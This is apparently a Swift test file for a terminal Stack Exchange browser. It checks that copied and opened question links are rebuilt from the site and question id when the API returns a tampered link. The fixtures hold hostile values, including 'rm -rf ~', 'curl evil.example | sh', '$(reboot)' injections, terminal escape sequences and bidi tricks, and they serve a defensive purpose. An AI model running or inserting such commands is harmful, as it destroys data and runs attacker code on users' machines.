@testable import Browser
import Foundation
import StackExchange
import Testing

/// What `y` copies and `o` opens is the question's link made from its site and id (issue 25, finding 4): never the
/// API's `link` as it came when that holds anything but a plain URL of the site's host naming the question.
@MainActor
struct CleanLinkTests {
    /// A `link` a hostile server could send: a newline and a command, an escape sequence, bidi and zero-width characters.
    static let hostile = "https://stackoverflow.com/q/1001\nrm -rf ~\u{1B}]52;c;AAAA\u{07}\u{202E}txt.exe\u{200B}"

    private func harness(link: String?) -> Harness {
        let h = Harness()
        var question = Fixtures.questions(1)[0]
        question.link = link
        h.startLoaded([question])
        return h
    }

    @Test func yCopiesAHostileLinkRebuiltFromTheSiteAndTheID() {
        let h = harness(link: Self.hostile)
        h.press(.character("y"))
        #expect(h.clipboard.copied == ["https://stackoverflow.com/q/1001"])
        #expect(h.controller.state.notice == "copied https://stackoverflow.com/q/1001")
    }

    @Test func oOpensTheSameCleanLinkInTheListAndTheDetail() {
        let h = harness(link: Self.hostile)
        h.press(.character("o"))
        h.press(.enter, .character("o"))
        #expect(h.opener.urls == ["https://stackoverflow.com/q/1001", "https://stackoverflow.com/q/1001"])
        h.press(.character("y"))
        #expect(h.clipboard.copied == ["https://stackoverflow.com/q/1001"], "y in the detail too")
    }

    @Test(arguments: [
        "https://evil.example/q/1001",
        "https://stackoverflow.com.evil.example/q/1001",
        "https://stackoverflow.com/q/1002",
        "https://stackoverflow.com/q/10011",
        "https://stackoverflow.com/questions/1001/x/$(reboot)",
        "https://stackoverflow.com/questions/1001/x;reboot",
        "https://stackoverflow.com/questions/1001/slug with space",
        "https://stackoverflow.com/questions/1001/\u{202E}gnp.exe",
        "javascript:alert(1)//https://stackoverflow.com/q/1001",
        "",
    ])
    func aLinkThatIsNotAPlainURLOfThisQuestionIsRebuilt(link: String) {
        let h = harness(link: link)
        h.press(.character("y"))
        #expect(h.clipboard.copied == ["https://stackoverflow.com/q/1001"], "\(link.debugDescription)")
    }

    @Test(arguments: [
        "https://stackoverflow.com/questions/1001/how-to-reverse-a-string",
        "https://stackoverflow.com/questions/1001/x/1002#1002",
        "http://stackoverflow.com/q/1001",
    ])
    func aCleanLinkOfThisQuestionIsKeptAsItCame(link: String) {
        let h = harness(link: link)
        h.press(.character("y"))
        #expect(h.clipboard.copied == [link])
    }

    /// An inbox item's question, opened from the inbox, copies and opens its clean link too.
    @Test func anInboxItemsHostileLinkIsRebuiltForItsOwnSite() throws {
        var configuration = BrowserConfiguration(site: "stackoverflow")
        configuration.signedInAs = "bob"
        var model = BrowserModel(configuration: configuration, features: SignedInModelTests.features, now: Fixtures.now)
        _ = model.handle(.start, at: Fixtures.now)
        let open = try #require(model.handle(.key(.character("i")), at: Fixtures.now).compactMap(\.sending).first {
            $0.request.as(BrowserRequest.Inbox.self)?.unreadOnly == false
        }?.token)
        var item = SignedInModelTests.item(5, site: "superuser", unread: true)
        item.link = "https://superuser.com/questions/5/x\n\u{1B}[2Jcurl evil.example | sh"
        _ = model.handle(.response(open, .inbox(.success([item]))), at: Fixtures.now)
        _ = model.handle(.key(.enter), at: Fixtures.now)
        #expect(model.state.detail?.site == "superuser")
        let copied = model.handle(.key(.character("y")), at: Fixtures.now)
        #expect(copied.contains { if case .copy("https://superuser.com/q/5", _) = $0 { true } else { false } }, "\(copied)")
        let opened = model.handle(.key(.character("o")), at: Fixtures.now)
        #expect(opened.contains { if case .openURL("https://superuser.com/q/5") = $0 { true } else { false } }, "\(opened)")
    }

    @Test func theSiteListsHostIsUsedWhenKnownElseTheAPINamesOwn() {
        #expect(QuestionLink.knownHost(site: "stackoverflow") == "stackoverflow.com")
        #expect(QuestionLink.knownHost(site: "superuser") == "superuser.com")
        #expect(QuestionLink.knownHost(site: "unix") == "unix.stackexchange.com")
        #expect(QuestionLink.knownHost(site: "meta") == "meta.stackexchange.com")
        #expect(QuestionLink.knownHost(site: "meta.stackoverflow") == "meta.stackoverflow.com")
        #expect(QuestionLink.knownHost(site: "meta.math") == "math.meta.stackexchange.com")
        #expect(QuestionLink.knownHost(site: "ru") == "ru.stackoverflow.com")
        #expect(QuestionLink.knownHost(site: "mathoverflow.net") == "mathoverflow.net")
        #expect(QuestionLink.host(ofSiteURL: "https://cooking.stackexchange.com") == "cooking.stackexchange.com")
        #expect(QuestionLink.host(ofSiteURL: "https://evil.example/x\n") == nil, "a site_url that is more than a host is not used")
        #expect(QuestionLink.host(ofSiteURL: "ftp://cooking.stackexchange.com") == nil)
        #expect(QuestionLink.link(nil, site: "cooking", questionID: 5, siteHost: "cooking.example") == "https://cooking.example/q/5")
    }

    @Test func everyCopyDropsWhatTheScreenDoesNotDraw() {
        let effects = ScreenContext.copying("a\u{202E}b\u{200B}c\u{1B}d\ne") { "removed \($0)" }
        guard case .copy(let text, let confirmation)? = effects.first else {
            Issue.record("no copy")
            return
        }
        #expect(text == "abcd\ne")
        #expect(confirmation == "removed 3")
    }
}
